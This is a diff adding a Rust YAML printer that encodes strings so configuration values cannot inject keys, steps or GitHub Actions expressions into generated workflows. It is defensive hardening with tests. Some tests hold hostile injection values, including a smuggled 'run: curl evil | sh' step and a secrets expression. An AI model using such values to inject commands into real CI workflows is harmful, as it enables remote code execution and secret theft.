@@ -1,0 +1,612 @@
+//! A YAML document model and its printer: the one way tofugen writes YAML (GitHub Actions
+//! workflows, Prometheus rule files and their promtool tests).
+//!
+//! Encoding is by construction:
+//! - every string is a [`Yaml::Str`], printed plain only when YAML reads it back as the same
+//!   string (no indicator, no special word, no number), else single-quoted, else (control
+//!   characters, line breaks) double-quoted with escapes: a value can never add a key, an item
+//!   or a document;
+//! - `${{` in a string would be a GitHub Actions expression, evaluated almost everywhere in a
+//!   workflow. Strings are printed so that GitHub reads them literally: every `${{` becomes
+//!   `${{ '${{' }}`, an expression whose value is the text `${{` (tofugen also rejects `${{` in
+//!   the configuration, so this is a second line);
+//! - GitHub expressions tofugen means are [`Yaml::Expr`], built only from `&'static str`:
+//!   tofugen's own source, never configuration;
+//! - `run:` scripts are [`Yaml::Script`], also `&'static str` only: a script never contains a
+//!   configuration value (values reach scripts through `env:`);
+//! - comments go through [`comment_lines`], which keeps them on comment lines.
+
+use std::fmt::Write as _;
+
+/// A YAML value.
+#[derive(Debug, Clone, PartialEq)]
+pub enum Yaml {
+    /// `null`.
+    Null,
+    /// `true` / `false`.
+    Bool(bool),
+    /// An integer.
+    Int(i64),
+    /// A string (any text; encoded when printed).
+    Str(String),
+    /// A GitHub Actions expression, printed `${{ … }}`; its text is tofugen's own.
+    Expr(&'static str),
+    /// A string made of literal text and GitHub expressions, e.g. `release-${{ x }}`: the
+    /// literal parts are encoded like [`Yaml::Str`], the expressions are tofugen's own.
+    Template(Vec<Piece>),
+    /// A shell script, printed as a literal block (`|`); its text is tofugen's own.
+    Script(&'static str),
+    /// A GitHub expression built from tofugen's own operands and encoded string literals
+    /// (`if:` conditions comparing an input with a configuration value).
+    Cond(Cond),
+    /// A sequence, one item per line (`- item`).
+    Seq(Vec<Yaml>),
+    /// A sequence printed on one line (`[a, b]`), for short lists of scalars.
+    FlowSeq(Vec<Yaml>),
+    /// A mapping, in order; each entry may carry comment lines printed above it.
+    Map(Vec<Entry>),
+    /// A mapping printed on one line (`{a: b, c: d}`), for short maps of scalars.
+    FlowMap(Vec<(String, Yaml)>),
+}
+
+/// A GitHub Actions condition. Operands are tofugen's own; configuration values only appear as
+/// string literals, encoded by [`gh_literal`].
+#[derive(Debug, Clone, PartialEq)]
+pub enum Cond {
+    /// An expression written by tofugen.
+    Raw(&'static str),
+    /// `<operand> == '<value>'`.
+    Eq(&'static str, String),
+    /// `contains(<operand>, '<value>')`.
+    Contains(&'static str, String),
+    /// Every condition.
+    And(Vec<Cond>),
+}
+
+impl Cond {
+    /// The expression text (without `${{ }}`).
+    pub fn text(&self) -> String {
+        match self {
+            Cond::Raw(e) => (*e).to_string(),
+            Cond::Eq(operand, value) => format!("{operand} == {}", gh_literal(value)),
+            Cond::Contains(operand, value) => {
+                format!("contains({operand}, {})", gh_literal(value))
+            }
+            Cond::And(parts) => parts
+                .iter()
+                .map(|p| match p {
+                    Cond::And(_) => p.text(),
+                    _ => format!("({})", p.text()),
+                })
+                .collect::<Vec<_>>()
+                .join(" && "),
+        }
+    }
+}
+
+/// `s` as a GitHub expression string literal: single-quoted, `'` doubled. Inside a literal,
+/// nothing is evaluated.
+pub fn gh_literal(s: &str) -> String {
+    format!("'{}'", s.replace('\'', "''"))
+}
+
+/// One piece of a [`Yaml::Template`].
+#[derive(Debug, Clone, PartialEq)]
+pub enum Piece {
+    /// Literal text (encoded).
+    Text(String),
+    /// A GitHub expression, tofugen's own.
+    Expr(&'static str),
+}
+
+/// A mapping entry: comment lines, key, value.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Entry {
+    /// Comment lines printed above the key (each encoded by [`comment_lines`]).
+    pub comments: Vec<String>,
+    /// The key (encoded like a string).
+    pub key: String,
+    /// The value.
+    pub value: Yaml,
+}
+
+impl Yaml {
+    /// A string.
+    pub fn str(s: impl Into<String>) -> Yaml {
+        Yaml::Str(s.into())
+    }
+
+    /// A mapping from `(key, value)` pairs, without comments.
+    pub fn map<K: Into<String>>(entries: impl IntoIterator<Item = (K, Yaml)>) -> Yaml {
+        Yaml::Map(
+            entries
+                .into_iter()
+                .map(|(k, v)| Entry {
+                    comments: Vec::new(),
+                    key: k.into(),
+                    value: v,
+                })
+                .collect(),
+        )
+    }
+
+    /// A sequence of strings.
+    pub fn strs<S: AsRef<str>>(items: impl IntoIterator<Item = S>) -> Yaml {
+        Yaml::Seq(items.into_iter().map(|s| Yaml::str(s.as_ref())).collect())
+    }
+}
+
+/// Builds a [`Yaml::Map`] entry by entry.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct MapBuilder {
+    entries: Vec<Entry>,
+    pending: Vec<String>,
+}
+
+impl MapBuilder {
+    /// An empty map.
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    /// Adds a comment (any text; split into comment lines) above the next entry.
+    pub fn comment(mut self, text: &str) -> Self {
+        self.pending.push(text.to_string());
+        self
+    }
+
+    /// Adds `key: value`.
+    pub fn entry(mut self, key: impl Into<String>, value: Yaml) -> Self {
+        self.entries.push(Entry {
+            comments: std::mem::take(&mut self.pending),
+            key: key.into(),
+            value,
+        });
+        self
+    }
+
+    /// Adds `key: value` when `value` is `Some`.
+    pub fn entry_opt(self, key: impl Into<String>, value: Option<Yaml>) -> Self {
+        match value {
+            Some(v) => self.entry(key, v),
+            None => self,
+        }
+    }
+
+    /// The map.
+    pub fn build(self) -> Yaml {
+        Yaml::Map(self.entries)
+    }
+}
+
+/// Words YAML 1.1 or 1.2 would read as something other than a string.
+const SPECIAL_WORDS: [&str; 22] = [
+    "true", "false", "yes", "no", "on", "off", "y", "n", "null", "~", ".nan", ".inf", "-.inf",
+    "+.inf", "<<", "=", "nan", "inf", "True", "False", "Null", "NULL",
+];
+
+/// Whether `s` may be printed as a plain scalar and read back as the same string.
+fn plain_ok(s: &str) -> bool {
+    let Some(first) = s.chars().next() else {
+        return false;
+    };
+    if !(first.is_ascii_alphabetic() || first == '/' || first == '_') {
+        return false;
+    }
+    // Inner spaces are plain text; `@` only matters as a first character.
+    if !s.chars().all(|c| {
+        c.is_ascii_alphanumeric()
+            || matches!(c, '_' | '-' | '.' | '/' | '+' | ' ' | '(' | ')' | '@')
+    }) || s.ends_with(' ')
+        || s.contains("  ")
+    {
+        return false;
+    }
+    let lower = s.to_ascii_lowercase();
+    !SPECIAL_WORDS.iter().any(|w| w.eq_ignore_ascii_case(&lower))
+}
+
+/// Whether a condition's text may be printed plain: it starts like an expression, and holds
+/// nothing YAML would read as structure (`: `, ` #`, a trailing `:`), no line break, no
+/// control character and no edge space.
+fn plain_expression_ok(s: &str) -> bool {
+    s.chars()
+        .next()
+        .is_some_and(|c| c.is_ascii_alphabetic() || c == '(')
+        && !s.contains(": ")
+        && !s.contains(" #")
+        && !s.ends_with(':')
+        && s == s.trim()
+        && s.chars()
+            .all(|c| !c.is_control() && !is_break(c) && !is_invisible(c))
+}
+
+/// The text GitHub must read literally: each `${{` turned into an expression whose value is
+/// `${{`.
+fn defuse_expressions(s: &str) -> String {
+    s.replace("${{", "${{ '${{' }}")
+}
+
+/// `s` as a YAML scalar (plain, single- or double-quoted), GitHub expressions defused.
+pub fn scalar(s: &str) -> String {
+    let s = defuse_expressions(s);
+    if plain_ok(&s) {
+        s
+    } else if s.chars().all(|c| !c.is_control() && !is_break(c)) {
+        format!("'{}'", s.replace('\'', "''"))
+    } else {
+        double_quoted(&s)
+    }
+}
+
+/// Characters YAML treats as line breaks besides `\n` and `\r`.
+fn is_break(c: char) -> bool {
+    matches!(c, '\u{85}' | '\u{2028}' | '\u{2029}')
+}
+
+/// A double-quoted YAML scalar with every non-printable character escaped.
+fn double_quoted(s: &str) -> String {
+    let mut out = String::from("\"");
+    for c in s.chars() {
+        match c {
+            '"' => out.push_str("\\\""),
+            '\\' => out.push_str("\\\\"),
+            '\n' => out.push_str("\\n"),
+            '\t' => out.push_str("\\t"),
+            '\r' => out.push_str("\\r"),
+            c if c.is_control() || is_break(c) || is_invisible(c) => {
+                let _ = write!(out, "\\u{:04X}", u32::from(c));
+            }
+            c => out.push(c),
+        }
+    }
+    out.push('"');
+    out
+}
+
+/// Bidirectional and zero-width characters: printed escaped so they cannot hide text.
+fn is_invisible(c: char) -> bool {
+    matches!(
+        c,
+        '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}'
+    )
+}
+
+/// The comment lines (without `#`) of `text`: split on line breaks, control characters and
+/// invisible characters replaced by spaces, wrapped at `width` characters.
+pub fn comment_lines(text: &str, width: usize) -> Vec<String> {
+    let mut lines = Vec::new();
+    for raw in text.split(['\n', '\r', '\u{85}', '\u{2028}', '\u{2029}']) {
+        let clean: String = raw
+            .chars()
+            .map(|c| {
+                if c.is_control() || is_invisible(c) {
+                    ' '
+                } else {
+                    c
+                }
+            })
+            .collect();
+        let mut line = String::new();
+        for word in clean.split_whitespace() {
+            if !line.is_empty() && line.chars().count() + word.chars().count() + 1 > width {
+                lines.push(std::mem::take(&mut line));
+            }
+            if !line.is_empty() {
+                line.push(' ');
+            }
+            line.push_str(word);
+        }
+        lines.push(line);
+    }
+    while lines.last().is_some_and(String::is_empty) {
+        lines.pop();
+    }
+    lines
+}
+
+/// `text` as `#` comment lines at `indent`, wrapped to about 96 characters of text.
+pub fn comment(indent: usize, text: &str) -> String {
+    let pad = " ".repeat(indent);
+    comment_lines(text, 96)
+        .into_iter()
+        .map(|l| {
+            if l.is_empty() {
+                format!("{pad}#\n")
+            } else {
+                format!("{pad}# {l}\n")
+            }
+        })
+        .collect()
+}
+
+/// Whether a value prints on the same line as its key.
+fn is_inline(v: &Yaml) -> bool {
+    match v {
+        Yaml::Seq(items) => items.is_empty(),
+        Yaml::Map(entries) => entries.is_empty(),
+        Yaml::Script(_) => false,
+        _ => true,
+    }
+}
+
+fn inline(v: &Yaml) -> String {
+    match v {
+        Yaml::Null => "null".into(),
+        Yaml::Bool(b) => b.to_string(),
+        Yaml::Int(n) => n.to_string(),
+        Yaml::Str(s) => scalar(s),
+        Yaml::Expr(e) => format!("${{{{ {e} }}}}"),
+        Yaml::Template(pieces) => {
+            // Always quoted: literal parts defused, expressions kept.
+            let mut text = String::new();
+            for p in pieces {
+                match p {
+                    Piece::Text(t) => text.push_str(&defuse_expressions(t)),
+                    Piece::Expr(e) => {
+                        let _ = write!(text, "${{{{ {e} }}}}");
+                    }
+                }
+            }
+            if text.chars().all(|c| !c.is_control() && !is_break(c)) {
+                format!("'{}'", text.replace('\'', "''"))
+            } else {
+                double_quoted(&text)
+            }
+        }
+        Yaml::Seq(items) if items.is_empty() => "[]".into(),
+        Yaml::Map(entries) if entries.is_empty() => "{}".into(),
+        Yaml::FlowSeq(items) => {
+            let parts: Vec<String> = items.iter().map(inline).collect();
+            format!("[{}]", parts.join(", "))
+        }
+        Yaml::FlowMap(entries) => {
+            let parts: Vec<String> = entries
+                .iter()
+                .map(|(k, v)| format!("{}: {}", scalar(k), inline(v)))
+                .collect();
+            format!("{{{}}}", parts.join(", "))
+        }
+        // Multi-line values are printed by `block`; reaching here is a printer bug, so fall
+        // back to a safe (if unusual) flow form.
+        Yaml::Seq(items) => inline(&Yaml::FlowSeq(items.clone())),
+        Yaml::Map(entries) => inline(&Yaml::FlowMap(
+            entries
+                .iter()
+                .map(|e| (e.key.clone(), e.value.clone()))
+                .collect(),
+        )),
+        Yaml::Script(s) => double_quoted(s),
+        Yaml::Cond(c) => {
+            let text = c.text();
+            if plain_expression_ok(&text) {
+                text
+            } else if text.chars().all(|c| !c.is_control() && !is_break(c)) {
+                format!("'{}'", text.replace('\'', "''"))
+            } else {
+                double_quoted(&text)
+            }
+        }
+    }
+}
+
+/// Appends the lines of `v` at `indent` (a mapping's entries or a sequence's items).
+fn block(out: &mut String, indent: usize, v: &Yaml) {
+    let pad = " ".repeat(indent);
+    match v {
+        Yaml::Map(entries) => {
+            for e in entries {
+                for c in &e.comments {
+                    out.push_str(&comment(indent, c));
+                }
+                let key = scalar(&e.key);
+                value_after(out, indent, &format!("{pad}{key}:"), &e.value);
+            }
+        }
+        Yaml::Seq(items) => {
+            for item in items {
+                match item {
+                    Yaml::Map(entries) if !entries.is_empty() => {
+                        // The map's lines at indent + 2; the first key's line gets the dash,
+                        // and the comments above it move to the dash's indentation.
+                        let mut lines = String::new();
+                        block(&mut lines, indent + 2, item);
+                        let mut dashed = false;
+                        for line in lines.lines() {
+                            let body = line.trim_start();
+                            if dashed {
+                                let _ = writeln!(out, "{line}");
+                            } else if body.starts_with('#') {
+                                let _ = writeln!(out, "{pad}{body}");
+                            } else {
+                                let _ = writeln!(out, "{pad}- {body}");
+                                dashed = true;
+                            }
+                        }
+                    }
+                    _ => value_after(out, indent, &format!("{pad}-"), item),
+                }
+            }
+        }
+        other => {
+            let _ = writeln!(out, "{pad}{}", inline(other));
+        }
+    }
+}
+
+/// Prints `lead` (a key with its colon, or a dash) followed by `v`.
+fn value_after(out: &mut String, indent: usize, lead: &str, v: &Yaml) {
+    match v {
+        Yaml::Script(text) => {
+            let _ = writeln!(out, "{lead} |");
+            let pad = " ".repeat(indent + 2);
+            for line in text.lines() {
+                if line.is_empty() {
+                    out.push('\n');
+                } else {
+                    let _ = writeln!(out, "{pad}{line}");
+                }
+            }
+        }
+        v if is_inline(v) => {
+            let _ = writeln!(out, "{lead} {}", inline(v));
+        }
+        v => {
+            let _ = writeln!(out, "{lead}");
+            block(out, indent + 2, v);
+        }
+    }
+}
+
+/// Prints a document: `header` comment text (may be empty), then `root`.
+pub fn render(header: &str, root: &Yaml) -> String {
+    let mut out = String::new();
+    out.push_str(header);
+    block(&mut out, 0, root);
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn parse(text: &str) -> serde_json::Value {
+        // saphyr-parser is the loader tofugen uses; the test reads back through serde_yaml-like
+        // semantics with the same core schema, via the crate's own loader.
+        let (_, node) = crate::load::load("t.yaml", text.as_bytes())
+            .unwrap_or_else(|(_, d)| panic!("{text}\n{d:#?}"));
+        node.to_json()
+    }
+
+    #[test]
+    fn scalars_read_back_as_the_same_string() {
+        for s in [
+            "api",
+            "true",
+            "yes",
+            "null",
+            "123",
+            "1.5",
+            "a: b",
+            "- x",
+            "#c",
+            "a #c",
+            "it's",
+            "line\nbreak",
+            "tab\there",
+            "[x]",
+            "{x}",
+            "*alias",
+            "&anchor",
+            "!tag",
+            "|",
+            ">",
+            "%",
+            "@",
+            "`",
+            "",
+            " lead",
+            "trail ",
+            "a\u{202e}b",
+            "\u{0}",
+        ] {
+            let doc = render("", &Yaml::map([("k", Yaml::str(s))]));
+            assert_eq!(parse(&doc)["k"], serde_json::json!(s), "{doc}");
+        }
+    }
+
+    #[test]
+    fn github_expressions_in_values_are_defused() {
+        let doc = render("", &Yaml::map([("k", Yaml::str("x ${{ secrets.A }}"))]));
+        // YAML reads `x ${{ '${{' }} secrets.A }}`; GitHub evaluates `${{ '${{' }}` to the
+        // text `${{`, so the value is literally what was written.
+        assert_eq!(doc, "k: 'x ${{ ''${{'' }} secrets.A }}'\n");
+        assert_eq!(
+            parse(&doc)["k"],
+            serde_json::json!("x ${{ '${{' }} secrets.A }}")
+        );
+    }
+
+    #[test]
+    fn a_value_cannot_add_keys_items_or_steps() {
+        let hostile = "x\n  run: curl evil | sh\n- name: y";
+        let doc = render(
+            "",
+            &Yaml::map([(
+                "steps",
+                Yaml::Seq(vec![Yaml::map([("name", Yaml::str(hostile))])]),
+            )]),
+        );
+        let v = parse(&doc);
+        assert_eq!(v["steps"].as_array().unwrap().len(), 1);
+        assert_eq!(v["steps"][0]["name"], serde_json::json!(hostile));
+        assert_eq!(v["steps"][0].as_object().unwrap().len(), 1);
+    }
+
+    #[test]
+    fn scripts_are_literal_blocks() {
+        let doc = render(
+            "",
+            &Yaml::map([("run", Yaml::Script("echo \"$X\"\n\nexit 0\n"))]),
+        );
+        assert_eq!(doc, "run: |\n  echo \"$X\"\n\n  exit 0\n");
+    }
+
+    #[test]
+    fn sequences_of_maps_and_comments() {
+        let step = MapBuilder::new()
+            .comment("first step")
+            .entry("name", Yaml::str("Check out"))
+            .entry("uses", Yaml::str("actions/checkout@abc"))
+            .build();
+        let doc = render(
+            "# header\n",
+            &Yaml::map([("steps", Yaml::Seq(vec![step.clone(), step]))]),
+        );
+        assert_eq!(
+            doc,
+            "# header\nsteps:\n  # first step\n  - name: Check out\n    uses: actions/checkout@abc\n  # first step\n  - name: Check out\n    uses: actions/checkout@abc\n"
+        );
+        assert_eq!(parse(&doc)["steps"].as_array().unwrap().len(), 2);
+    }
+
+    #[test]
+    fn templates_keep_expressions_and_encode_text() {
+        let t = Yaml::Template(vec![
+            Piece::Text("release-".into()),
+            Piece::Expr("steps.release.outputs.sha"),
+        ]);
+        assert_eq!(inline(&t), "'release-${{ steps.release.outputs.sha }}'");
+        let t = Yaml::Template(vec![Piece::Text("a: ${{ b".into()), Piece::Expr("c")]);
+        assert_eq!(inline(&t), "'a: ${{ ''${{'' }} b${{ c }}'");
+    }
+
+    #[test]
+    fn conditions_encode_values_as_literals() {
+        let c = Cond::And(vec![
+            Cond::Raw("github.event_name == 'workflow_dispatch'"),
+            Cond::Eq("inputs.environment", "it's ${{ x }}".into()),
+        ]);
+        assert_eq!(
+            c.text(),
+            "(github.event_name == 'workflow_dispatch') && (inputs.environment == 'it''s ${{ x }}')"
+        );
+        let hostile = Cond::Eq("inputs.environment", "x: y\n  run: evil".into());
+        let doc = render("", &Yaml::map([("if", Yaml::Cond(hostile.clone()))]));
+        assert_eq!(parse(&doc)["if"], serde_json::json!(hostile.text()));
+        let doc = render("", &Yaml::map([("if", Yaml::Cond(c))]));
+        assert!(doc.starts_with("if: (github"), "{doc}");
+        assert_eq!(
+            parse(&doc)["if"],
+            serde_json::json!(
+                "(github.event_name == 'workflow_dispatch') && (inputs.environment == 'it''s ${{ x }}')"
+            )
+        );
+    }
+
+    #[test]
+    fn comments_stay_comments() {
+        assert_eq!(comment(2, "a\nb: c\r\n"), "  # a\n  # b: c\n");
+        assert_eq!(comment(0, "x\u{202e}y"), "# x y\n");
+    }
+}
